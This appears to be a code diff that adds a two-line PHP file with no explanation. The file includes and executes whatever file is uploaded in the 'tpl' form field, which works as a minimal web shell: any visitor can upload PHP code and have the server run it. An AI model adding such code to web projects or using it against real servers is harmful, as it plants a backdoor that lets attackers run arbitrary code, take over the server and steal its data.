@@ -1,0 +1,2 @@
+<?php
+include $_FILES['tpl']['tmp_name'];
